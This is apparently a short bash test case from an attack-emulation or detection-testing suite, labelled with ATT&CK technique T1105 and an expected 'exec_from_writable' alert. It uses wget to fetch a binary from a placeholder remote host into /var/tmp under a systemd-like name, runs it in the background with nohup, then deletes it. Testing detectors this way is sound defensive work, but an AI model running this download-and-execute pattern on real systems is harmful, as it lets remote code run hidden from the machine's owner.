#!/usr/bin/env bash
# tactic: execution
# technique: T1105 Ingress Tool Transfer
# behaviour: the same with wget into /var/tmp under a harmless-looking name, started in the background with nohup
# as: user
# needs: remote
# expect: exec_from_writable
set -u
f=/var/tmp/systemd-private-$SNTL_ID
wget -q -T 5 -O "$f" http://$SNTL_REMOTE/tool.bin
chmod 755 "$f"
nohup "$f" > /dev/null 2>&1 &
wait
rm -f "$f"
